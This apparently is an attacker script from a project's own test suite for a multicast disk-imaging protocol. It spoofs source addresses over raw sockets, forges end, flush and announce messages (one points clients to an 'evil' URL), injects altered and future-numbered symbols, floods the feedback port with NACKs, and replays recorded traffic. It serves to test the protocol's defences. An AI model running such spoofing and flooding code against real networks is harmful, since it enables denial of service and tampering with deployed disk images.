"""An outsider in a cast's network: ``python -m tests.attacks.wire_attacker MODE INTERFACE GROUP PORT SENDER SECONDS``.

It reads the group's datagrams and sends forged ones with the sender's address as their source, as any machine on a
switch can. It builds them from the bytes it hears, in the layout of wire version 1 or 2, and knows no key.

Modes: ``control`` forges EOT, STANDING, FLUSH and ANNOUNCE; ``symbols`` repeats symbols with other content, and with
numbers that weren't sent yet; ``feedback`` floods a port with NACKs (SENDER is ``ADDRESS,PORT``); ``record`` and
``record-feedback`` write the datagrams of a cast into a file, and ``replay`` and ``replay-feedback`` send them again
(SENDER is ``ADDRESS,FILE``).
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import msgpack

MAGIC = 0xD15C
SYMBOL, ANNOUNCE, FLUSH, EOT, STANDING, NACK = 0x01, 0x10, 0x11, 0x12, 0x13, 0x20
CONTROL_INTERVAL_S = 0.01
NACKS_PER_S = 10_000
FEEDBACK_PORT = 7411
_ETHERNET_IPV4 = 0x0800


class Spoofer:
    """Sender of UDP datagrams to a multicast group with a source address of its choice."""

    def __init__(self, interface: str, group: str, port: int, source: str) -> None:
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind((interface, 0))
        low = socket.inet_aton(group)[1:]
        mac = b"\x01\x00\x5e" + bytes([low[0] & 0x7F]) + low[1:]
        self._ethernet = mac + self._socket.getsockname()[4] + struct.pack(">H", _ETHERNET_IPV4)
        self._addresses = socket.inet_aton(source) + socket.inet_aton(group)
        self._port = port

    def send(self, payload: bytes) -> None:
        udp = struct.pack(">HHHH", 50000, self._port, 8 + len(payload), 0)  # no checksum, as UDP allows
        start = struct.pack(">BBHHHBB", 0x45, 0, 28 + len(payload), 0, 0, 1, socket.IPPROTO_UDP)
        words = struct.unpack(">9H", start[:10] + self._addresses)
        total = sum(words)
        total = (total & 0xFFFF) + (total >> 16)
        checksum = ~(total + (total >> 16)) & 0xFFFF
        header = start + struct.pack(">H", checksum) + self._addresses
        self._socket.send(self._ethernet + header + udp + payload)


def listen(interface: str, group: str, port: int) -> socket.socket:
    """Join the group as any machine may."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
    sock.bind((group, port))
    member = struct.pack("=4s4si", socket.inet_aton(group), bytes(4), socket.if_nametoindex(interface))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    return sock


def heard(sock: socket.socket, wanted: Callable[[bytes], bool]) -> bytes:
    """Return the next datagram of a diskcast program that is wanted."""
    while True:
        datagram = sock.recv(65536)
        if len(datagram) >= 32 and struct.unpack_from(">H", datagram)[0] == MAGIC and wanted(datagram):
            return datagram


def forged_control(
    wire_type: int, fields: list[object], symbol: bytes, announce: bytes, number: int
) -> bytes:
    """Return the best forgery that somebody can make of the bytes of a symbol and an ANNOUNCE."""
    version, cast_id = symbol[2], symbol[4:8]
    head = struct.pack(">HBB", MAGIC, version, wire_type) + cast_id
    if version == 1:  # the token of every symbol is all that it takes
        return head + (bytes(8) if wire_type == ANNOUNCE else symbol[8:16]) + msgpack.packb(fields)
    (counter,) = struct.unpack_from(">Q", announce, 8)
    tag = announce[16:24] if number % 2 else symbol[8:16]
    return head + struct.pack(">Q", counter + number) + tag + msgpack.packb(fields) + announce[-64:]


def forge_control(sock: socket.socket, spoofer: Spoofer, seconds: float) -> int:
    symbol = heard(sock, lambda datagram: datagram[3] == SYMBOL)
    announce = heard(sock, lambda datagram: datagram[3] == ANNOUNCE)
    newer = symbol[2] >= 2
    next_sequence = [2**40] if newer else []
    slow = [1024, 4_000_000_000, 65535]
    name, url, image_id = "evil", "https://10.77.0.66:7411", bytes(32)
    size = len(symbol) - 32
    announced = [66, 1, image_id, name, url, size, 1 << 30, 1, 1, *next_sequence, 4_000_000_000, 65535, 1]
    flushed = [1, 0, *(next_sequence or [2**31]), *slow, 1]
    everybody = b"\xff" * 128
    ends_at = time.monotonic() + seconds
    count = 0
    while time.monotonic() < ends_at:
        count += 1
        for wire_type, fields in (
            (EOT, [2, "the end"]),
            (STANDING, [everybody, everybody]),
            (FLUSH, flushed),
            *([(ANNOUNCE, announced)] if count % 10 == 0 else []),
        ):
            spoofer.send(forged_control(wire_type, fields, symbol, announce, count))
        time.sleep(CONTROL_INTERVAL_S)
    return count


def forge_symbols(sock: socket.socket, spoofer: Spoofer, seconds: float) -> int:
    symbol = heard(sock, lambda datagram: datagram[3] == SYMBOL)
    sock.settimeout(2.0)
    ends_at = time.monotonic() + seconds
    count = 0
    while time.monotonic() < ends_at:
        other = bytearray(symbol)
        other[32:] = bytes(octet ^ 0x5A for octet in other[32:48]) * ((len(other) - 32) // 16)
        spoofer.send(bytes(other))
        if count % 8 == 0:
            struct.pack_into(">I", other, 16, (struct.unpack_from(">I", symbol, 16)[0] + 5000) & 0xFFFFFFFF)
            spoofer.send(bytes(other))
        count += 1
        try:
            symbol = heard(sock, lambda datagram: datagram[3] == SYMBOL)
        except TimeoutError:  # the cast is over
            break
    return count


def flood_feedback(sock: socket.socket, sender: tuple[str, int], seconds: float) -> int:
    symbol = heard(sock, lambda datagram: datagram[3] == SYMBOL)
    rows = [[block * 3, 1, 20] for block in range(100)]
    outbox = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    head = struct.pack(">HBB", MAGIC, symbol[2], NACK) + symbol[4:8]
    started_at = time.monotonic()
    count = 0
    while (elapsed_s := time.monotonic() - started_at) < seconds:
        while count < elapsed_s * NACKS_PER_S:
            count += 1
            if symbol[2] == 1:
                body = symbol[8:16] + msgpack.packb([0, count, 1, 1, rows])
            else:
                body = struct.pack(">HHI", count % 2, 0, count) + msgpack.packb([1, 1, rows])
            outbox.sendto(head + body + bytes(16), sender)
        time.sleep(0.001)
    return count


def write_records(path: Path, payloads: Iterator[bytes]) -> int:
    count = 0
    with path.open("wb") as file:
        for payload in payloads:
            file.write(struct.pack(">H", len(payload)) + payload)
            file.flush()
            count += 1
    return count


def received(sock: socket.socket, seconds: float) -> Iterator[bytes]:
    sock.settimeout(0.1)
    ends_at = time.monotonic() + seconds
    while time.monotonic() < ends_at:
        try:
            yield sock.recv(65536)
        except TimeoutError:
            continue


def sniffed(interface: str, port: int, seconds: float) -> Iterator[bytes]:
    """Yield the payloads of UDP datagrams to a port of this host."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETHERNET_IPV4))
    sock.bind((interface, 0))
    for frame in received(sock, seconds):
        if frame[23] == socket.IPPROTO_UDP and struct.unpack_from(">H", frame, 36)[0] == port:
            yield frame[42:]


def recorded(path: Path) -> Iterator[bytes]:
    data = path.read_bytes()
    start = 0
    while start + 2 <= len(data):
        (length,) = struct.unpack_from(">H", data, start)
        yield data[start + 2 : start + 2 + length]
        start += 2 + length


def replay(path: Path, send: Callable[[bytes], object]) -> int:
    count = 0
    for payload in recorded(path):
        send(payload)
        count += 1
        if count % 4 == 0:
            time.sleep(0.0005)
    return count


def main(mode: str, interface: str, group: str, port: int, sender: str, seconds: float) -> None:
    sock = listen(interface, group, port)
    address, _, file = sender.partition(",")
    print(json.dumps({"event": "ready"}), flush=True)
    match mode:
        case "record":
            count = write_records(Path(file), received(sock, seconds))
        case "record-feedback":
            count = write_records(Path(file), sniffed(interface, FEEDBACK_PORT, seconds))
        case "replay":
            heard(sock, lambda datagram: datagram[3] == SYMBOL)
            count = replay(Path(file), Spoofer(interface, group, port, address).send)
        case "replay-feedback":
            heard(sock, lambda datagram: datagram[3] == SYMBOL)
            outbox = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            count = replay(Path(file), lambda payload: outbox.sendto(payload, (address, FEEDBACK_PORT)))
        case "feedback":
            count = flood_feedback(sock, (address, int(file)), seconds)
        case "control":
            count = forge_control(sock, Spoofer(interface, group, port, address), seconds)
        case _:
            count = forge_symbols(sock, Spoofer(interface, group, port, address), seconds)
    print(json.dumps({"event": "result", "count": count}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5], float(sys.argv[6]))
